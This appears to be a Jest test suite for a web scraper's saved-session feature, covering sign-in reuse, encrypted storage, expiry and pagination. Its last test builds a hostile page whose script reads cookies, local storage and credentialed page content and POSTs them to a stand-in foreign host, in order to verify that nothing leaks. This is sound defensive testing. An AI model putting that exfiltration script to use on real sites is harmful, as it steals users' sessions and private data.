import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import type { SessionSettings } from "../../../functions/contract/sessions/session.ts";
import type { Step } from "../../../functions/contract/steps/steps.ts";
import { newSessionKey, SESSION_KEY } from "../../../functions/sessions/session-key.ts";
import { withSession } from "../../../functions/sessions/with-session.ts";
import { deleteSession, getSession, listSessions } from "../../../functions/store/sessions.ts";
import { type Handler, type Site, sendHtml, startSite } from "../../site/site.ts";
import { type Engine, startEngine, type Told } from "../scraping/harness.ts";
import { channels } from "../secrets/channels.ts";
import { startTable } from "../store/local-table.ts";

const table = await startTable();
let engine: Engine;
let site: Site;
/** A site of another host. */
let other: Site;
let key = newSessionKey();
/** Tokens that the site takes. */
let valid: Set<string>;
let signIns: number;
let owner = 0;

const MEMBERS = "<a href=/out>Sign out</a>";
const LOGIN =
  "<h1>Sign in</h1><ul><li>Terms</li></ul><form action=/login><input name=user><button>Go</button></form>";

beforeAll(async () => {
  site = await startSite();
  other = await startSite();
  engine = await startEngine([site.host, foreign("")], {
    wrap: (scrape) => (job, context) => {
      owner += 1;
      const deps = { table, readSecrets: async () => new Map([[SESSION_KEY, key]]), now: () => new Date() };
      return withSession(scrape, deps, "acme", `run ${owner}`)(job, context);
    },
  });
});
afterAll(async () => {
  await engine.close();
  await site.close();
  await other.close();
});
/** The host of the other site, and a path. Its name differs, because cookies are those of all ports. */
const foreign = (path: string) => `${other.host.replace("127.0.0.1", "localhost")}${path}`;

const tokenOf = (cookie = "") => /token=(\w+)/.exec(cookie)?.[1] ?? "";

beforeEach(async () => {
  site.reset();
  valid = new Set();
  signIns = 0;
  key = newSessionKey();
  await deleteSession(table, "acme", "shop");
  const page =
    (rows: string): Handler =>
    (request, response) =>
      sendHtml(response, valid.has(tokenOf(request.headers.cookie)) ? `${MEMBERS}<ul>${rows}</ul>` : LOGIN);
  site.setRoute("/orders", page("<li>Order 1</li><li>Order 2</li>"));
  site.setRoute("/login", (_, response) => {
    signIns += 1;
    const token = randomBytes(8).toString("hex");
    valid.add(token);
    response.setHeader("set-cookie", `token=${token}; Path=/; HttpOnly; Max-Age=86400`);
    sendHtml(response, `Welcome<script>localStorage.setItem("theme", "dark")</script>`);
  });
});

const list: Step = { type: "get_list", selector: "li", fields: [{ name: "text" }] };
const session = (more: Partial<SessionSettings> = {}): SessionSettings => ({
  name: "shop",
  check: { text: "Sign out" },
  steps: [
    { type: "visit", url: site.url("/orders") },
    { type: "write_input", selector: "input", value: "me", submit: true },
  ],
  ...more,
});
const run = (more: Partial<SessionSettings> = {}, steps: Step[] = [list]): Promise<Told> =>
  engine.run({ steps: [{ type: "visit", url: site.url("/orders") }, ...steps], session: session(more) });
const ORDERS = [{ text: "Order 1" }, { text: "Order 2" }];

test("one run signs in, and later ones have its cookies and local storage, until the session expires; what is stored has no value in clear, and can't be used once its key was changed", async () => {
  const first = await run();
  expect(first.failure).toBeUndefined();
  expect(first.rows).toEqual(ORDERS);
  const stored = await getSession(table, "acme", "shop");
  const [token = ""] = valid;
  const sealed = Buffer.from(stored?.sealed ?? []);
  for (const text of [token, "theme", "dark"]) expect(sealed.includes(text)).toBe(false);
  expect(await listSessions(table, "acme")).toEqual([
    { name: "shop", hosts: ["127.0.0.1", site.host], saved_at: stored?.saved_at, version: stored?.version },
  ]);
  site.setRoute("/orders", (request, response) =>
    sendHtml(
      response,
      `${valid.has(tokenOf(request.headers.cookie)) ? MEMBERS : LOGIN}<ul></ul><script>
        document.querySelector("ul").innerHTML = "<li>" + localStorage.getItem("theme") + "</li>"</script>`,
    ),
  );
  for (let count = 0; count < 2; count += 1) expect((await run()).rows).toEqual([{ text: "dark" }]);
  expect(signIns).toBe(1);
  valid.clear();
  const renewed = await run();
  expect(renewed.failure).toBeUndefined();
  expect(renewed.rows).toEqual([{ text: "dark" }]);
  expect(signIns).toBe(2);
  key = newSessionKey();
  expect((await run()).rows).toEqual([{ text: "dark" }]);
  expect(signIns).toBe(3);
});

test("of runs at the same time, one signs in, and the others wait for it", async () => {
  const told = await Promise.all([run(), run(), run()]);
  for (const { rows, failure } of told) {
    expect(failure).toBeUndefined();
    expect(rows).toEqual(ORDERS);
  }
  expect(signIns).toBe(1);
});

test("a site that refuses by a status is signed in to as well", async () => {
  site.setRoute("/orders", (request, response) =>
    valid.has(tokenOf(request.headers.cookie))
      ? sendHtml(response, `${MEMBERS}<ul><li>Order 1</li></ul>`)
      : sendHtml(response, "Unauthorized", 401),
  );
  const { rows } = await run({ steps: [{ type: "visit", url: site.url("/login") }] });
  expect(rows).toEqual([{ text: "Order 1" }]);
});

test.each<[string, () => Partial<SessionSettings>, string]>([
  ["no steps", () => ({ steps: [] }), "The scraper has no steps to sign in."],
  [
    "steps that do not fit",
    () => ({ steps: [{ type: "click", field_name: "Log on", timeout_ms: 500 }] }),
    "Step 1 of its sign-in failed: ",
  ],
  [
    "steps that do not help",
    () => ({ steps: [{ type: "scroll", value: "bottom" }] }),
    "The steps to sign in ended without a failure.",
  ],
  ["a check that never matches", () => ({ check: { selector: ".member" } }), "nothing matches .member"],
])("with %s, the run fails, and has no rows of the login page", async (_, more, message) => {
  const { rows, failure } = await run(more());
  expect(failure?.code).toBe("session_expired");
  expect(failure?.message).toContain(message);
  // An alert has at most so much of a message.
  const shown = failure?.message.slice(0, 500);
  expect(shown).toContain(`npx gleaner session sign-in shop ${site.url("/orders")}`);
  expect(rows).toEqual([]);
  expect(await getSession(table, "acme", "shop")).toBeUndefined();
});

test("a session that ends during the run fails it", async () => {
  site.setRoute("/later", (_, response) => {
    valid.clear();
    sendHtml(response, LOGIN);
  });
  const later: Step[] = [{ type: "visit", url: site.url("/later") }, list];
  const { failure, rows } = await run({}, later);
  expect(failure?.code).toBe("session_expired");
  expect(failure?.message).toContain('The session "shop" was signed out during the run');
  expect(rows).toEqual([]);
  const missing: Step = { type: "click", selector: ".none", timeout_ms: 500 };
  expect((await run({}, [{ type: "visit", url: site.url("/later") }, missing])).failure?.code).toBe(
    "session_expired",
  );
});

describe("the rows of a list whose session ends on page 3", () => {
  const PAGES = 12;
  const rowOf = (page: number) => `<li><a href=/item${page}>Order ${page}</a></li>`;
  const orders = (...pages: number[]) => pages.map((page) => ({ text: `Order ${page}` }));
  const LOGIN_LIST = `${LOGIN}<ul>${rowOf(0)}</ul>`;
  /** Pages whose second one lets the cookie end. */
  const endAfterTwo = (path: string, html: (page: number) => string) => {
    for (let page = 1; page <= PAGES; page += 1)
      site.setRoute(`${path}${page}`, ({ headers }, response) => {
        // Pages may be asked for ahead, before the cookie has ended.
        if (page > 2 || !valid.has(tokenOf(headers.cookie))) return sendHtml(response, LOGIN_LIST);
        if (page === 2) response.setHeader("set-cookie", "token=; Path=/; Max-Age=0");
        sendHtml(response, html(page));
      });
  };
  const paged = (more: object = {}, step: Step = list) =>
    engine.run({
      steps: [{ type: "visit", url: site.url("/orders1") }, step],
      pagination: { type: "url_template", url: site.url("/orders{page}"), start: 2, max_pages: PAGES },
      session: session({ steps: [{ type: "visit", url: site.url("/login") }] }),
      ...more,
    });

  test.each([
    ["in the browser, if each page shows the sign-in", true, "browser", orders(1, 2)],
    ["in the browser, if only the first page shows it", false, "browser", orders(1)],
    ["without the browser", true, "auto", orders(1)],
  ] as const)("are not those of the login page, %s", async (_, isShown, read, expected) => {
    endAfterTwo("/orders", (page) => `${isShown || page === 1 ? MEMBERS : ""}<ul>${rowOf(page)}</ul>`);
    const { rows, failure } = await paged({ engine: read });
    expect(failure?.code).toBe("session_expired");
    expect(rows).toEqual(expected);
  });

  test("have no details of the login page", async () => {
    site.setRoute("/orders1", ({ headers }, response) =>
      sendHtml(response, valid.has(tokenOf(headers.cookie)) ? MEMBERS + [1, 2, 3, 4].map(rowOf) : LOGIN),
    );
    endAfterTwo("/item", (page) => `${MEMBERS}<h1>Item ${page}</h1>`);
    const details = { url_field: "link", fields: [{ name: "title", selector: "h1" }] };
    const fields = [{ name: "link", selector: "a", attribute: "href" }];
    const { rows, failure } = await paged({ pagination: { type: "none" } }, { ...list, fields, details });
    expect(failure?.code).toBe("session_expired");
    expect(rows).toEqual([]);
  });

  test("stay if the session lasts, also before another failure, and the first page is seldom opened again", async () => {
    const members = (page: number) => (page === 1 ? MEMBERS : "");
    for (let page = 1; page <= PAGES; page += 1)
      site.setRoute(`/orders${page}`, ({ headers }, response) =>
        sendHtml(
          response,
          valid.has(tokenOf(headers.cookie)) ? `${members(page)}<ul>${rowOf(page)}</ul>` : LOGIN,
        ),
      );
    const all = await paged();
    expect(all.failure).toBeUndefined();
    expect(all.rows).toEqual(orders(...Array.from({ length: PAGES }, (_, index) => index + 1)));
    const openedAgain = site.requests.filter((path) => path === "/orders1").length - 2;
    expect([openedAgain, all.loads]).toEqual([2, 3 + (PAGES - 1) + openedAgain]);
    site.setRoute("/orders4", (_, response) => sendHtml(response, "Not for you", 403));
    const failed = await paged();
    expect(failed.failure?.code).toBe("http_error");
    expect(failed.rows).toEqual(orders(1, 2, 3));
  });
});

test("a page that still looks signed in does not hide that the session has ended", async () => {
  site.setRoute("/later", (_, response) => {
    valid.clear();
    sendHtml(response, `${MEMBERS}<ul><li>Terms</li></ul>`);
  });
  const { failure } = await run({}, [{ type: "visit", url: site.url("/later") }, list]);
  expect(failure?.code).toBe("session_expired");
});

test("a page without the check is no reason to fail, if the first page still has it, and is not left for a step that may be left out", async () => {
  site.setRoute("/terms", "<ul><li>Terms</li></ul>");
  const optional: Step = { type: "click", selector: ".none", timeout_ms: 500, optional: true };
  const { rows, failure } = await run({}, [{ type: "visit", url: site.url("/terms") }, optional, list]);
  expect(failure).toBeUndefined();
  expect(rows).toEqual([{ text: "Terms" }]);
});

test("a failure of another kind stays what it is, with the page that it happened on", async () => {
  site.setRoute("/terms", "<h1>Terms</h1>");
  const missing: Step = { type: "click", selector: ".none", timeout_ms: 500 };
  const { failure } = await run({}, [{ type: "visit", url: site.url("/terms") }, missing]);
  expect(failure).toMatchObject({ code: "element_not_found", step: 2 });
  expect(failure?.evidence?.url).toBe(site.url("/terms"));
});

test("a state that is too large is not kept, and the run warns", async () => {
  site.setRoute("/orders", (request, response) => {
    const fill = `<script>localStorage.setItem("a", [...crypto.getRandomValues(new Uint8Array(60000)),
      ...crypto.getRandomValues(new Uint8Array(60000)), ...crypto.getRandomValues(new Uint8Array(60000)),
      ...crypto.getRandomValues(new Uint8Array(60000)), ...crypto.getRandomValues(new Uint8Array(60000)),
      ...crypto.getRandomValues(new Uint8Array(60000)), ...crypto.getRandomValues(new Uint8Array(60000)),
      ...crypto.getRandomValues(new Uint8Array(60000))].join())</script>`;
    const isMember = valid.has(tokenOf(request.headers.cookie));
    sendHtml(response, isMember ? `${MEMBERS}<ul><li>Order 1</li></ul>${fill}` : LOGIN);
  });
  const { warnings, failure } = await run();
  expect(failure).toBeUndefined();
  expect(warnings.map(({ code }) => code)).toEqual(["session_not_kept"]);
});

/** Tries every way to send what a page can read, and to have a request with cookies redirected, to the other host. */
const attack = (): string => {
  const ways = Object.entries(channels).flatMap(([name, channel], index) =>
    [`http://${foreign(`/log/${index}`)}`, site.url(`/moved/${index}`)].map(
      (address) => `await new Promise((end) => { ${channel(address, "document.cookie")} }); // ${name}`,
    ),
  );
  const orders = site.url("/orders");
  return `<ul><li><a href="http://${foreign("/details")}">One</a></li></ul><iframe name=frame src="${orders}"></iframe><script>
      const log = "http://${foreign("/log/told")}";
      const tell = (text) => fetch(log, { method: "POST", mode: "no-cors", body: String(text) });
      const read = async (what) => { try { await tell(await what()); } catch (error) { await tell("refused"); } };
      const readAll = async () => {
        await read(() => document.cookie + JSON.stringify(localStorage));
        for (const mode of ["cors", "no-cors"])
          await read(async () => (await fetch("${orders}", { mode, credentials: "include" })).text());
        await read(() => frames[0].document.cookie + frames[0].document.body.innerHTML);
        await read(() => frames[0].localStorage.theme);
        await read(() => { const opened = open("${orders}"); return opened.document.cookie; });
      };
      onload = async () => {
        if (origin !== "${site.origin}") await readAll();
        ${ways.join("\n")}
        document.body.append("done");
      };
    </script>`;
};

/** The ways that lead somewhere: the browser has no prefetches, prerendering or FedCM. */
const OPEN = Object.keys(channels).flatMap((name, index) =>
  /speculation|prerendering|FedCM/.test(name) ? [] : [`/log/${index}`, `/log/moved-${index}`],
);

test.each([
  ["the session's host", () => site.url("/attack")],
  ["another host", () => `http://${foreign("/attack")}`],
])("no way to send a secret carries a kept cookie to another host, from a page of %s", async (_, page) => {
  const got = new Map<string, string>();
  const log: Handler = async (request, response) => {
    const body = Buffer.concat(await Array.fromAsync(request as AsyncIterable<Buffer>)).toString();
    const path = (request.url ?? "").split("?")[0] ?? "";
    got.set(
      path,
      `${got.get(path) ?? ""}${request.url} ${JSON.stringify(request.headers)} ${body.slice(-500)}`,
    );
    sendHtml(response, path === "/robots.txt" ? "" : "<h1>logged</h1>");
  };
  for (const place of Object.keys(channels).keys()) {
    site.setRedirect(`/moved/${place}`, `http://${foreign(`/log/moved-${place}`)}`);
    for (const path of [`/log/${place}`, `/log/moved-${place}`]) other.setRoute(path, log);
  }
  other.setRoute("/log/told", log);
  for (const path of ["/details", "/robots.txt"]) other.setRoute(path, log);
  for (const one of [site, other]) one.setRoute("/attack", attack());
  await run();
  const steps: Step[] = [
    { type: "visit", url: page() },
    { type: "wait", text: "done", timeout_ms: 20_000 },
    { type: "wait", value: 1_000 },
    {
      ...{ type: "get_list", selector: "li", fields: [{ name: "link", selector: "a", attribute: "href" }] },
      details: { url_field: "link", fields: [{ name: "heading", selector: "h1" }] },
    },
  ];
  const { failure, rows } = await run({}, steps);
  expect(failure).toBeUndefined();
  expect(rows).toEqual([{ link: `http://${foreign("/details")}`, heading: "logged" }]);
  // Each way leads there, and so do requests of the engine itself.
  expect([...got.keys()].sort()).toEqual(expect.arrayContaining(["/details", ...OPEN, "/robots.txt"]));
  const everything = [...got.values()].join();
  for (const text of [...valid, "Order 1", "dark", "Sign out"]) expect(everything).not.toContain(text);
});
